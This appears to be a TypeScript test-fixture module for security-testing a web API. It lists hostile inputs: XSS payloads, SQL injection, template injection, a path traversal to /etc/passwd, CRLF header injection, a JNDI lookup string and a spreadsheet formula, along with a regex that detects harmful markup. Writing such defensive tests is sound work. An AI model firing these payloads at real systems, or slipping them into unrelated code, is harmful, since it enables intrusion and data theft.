/** What is tried in every text, whatever it is for. */
export const inTexts: Readonly<Record<string, string>> = {
  script: '<script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)>',
  'broken markup': '"><iframe srcdoc="<script>alert(1)</script>"></iframe><!--',
  'script address': 'javascript:alert(1)//https://a.example/',
  'data address': 'data:text/html,<script>alert(1)</script>',
  SQL: "'); DROP TABLE tags; -- \" OR 1=1 \\'",
  'SQL pattern': '%_\\%\\_*?[a-z]',
  template: '${7*7}{{7*7}}#{7*7}<%= 7*7 %>',
  path: '../../../../etc/passwd',
  'header break': 'a\r\nSet-Cookie: a=b\r\n\r\n<p>',
  'direction override': 'a\u202egnp.exe\u2066',
  'nothing seen': '\u200b\u2060\u3164',
  'letters that change length': 'ﬃ'.repeat(50) + 'İ'.repeat(20) + 'ẞ',
  formula: '=HYPERLINK("https://a.example","x")',
}

/** What no text may be. */
export const notTexts: readonly unknown[] = [null, 1, true, {}, [], ['text'], { toString: 'x' }, { $gt: '' }]
/** What no id may be. */
export const notIds: readonly unknown[] = [-1, 0.5, 2 ** 31, 1e300, '1', "1' OR '1'='1", null, [1], {}]
/** What no list of ids may be. */
export const notLists: readonly unknown[] = ['1', null, { length: 1 }, [['1']], [-1], ['1'], [1.5], [null]]
/** What is tried in place of an id or a token. */
export const inPaths = [
  "1' OR '1'='1",
  '1;DROP TABLE tags',
  '../1',
  '..%2f1',
  '%00',
  '1e3',
  '0x1',
  '１',
  '1\u200b',
  '-1',
]
/** What is tried in each header. */
export const inHeaders = [
  "' OR 1=1 --",
  'x'.repeat(5000),
  '"\\"',
  'W/"1"',
  '*',
  '%00',
  '${jndi:ldap://a.example}',
  'null',
]

/** Headers that the server, or what stands before it, reads. */
export const headers = [
  'authorization',
  'if-match',
  'idempotency-key',
  'content-type',
  'origin',
  'x-forwarded-for',
  'accept',
]

/** Markup that a browser would carry out, in the tags of stored rich text. */
export const harmful = /<(?:script|svg|style|object|form)|\son\w+\s*=|srcdoc|javascript:|data:/i
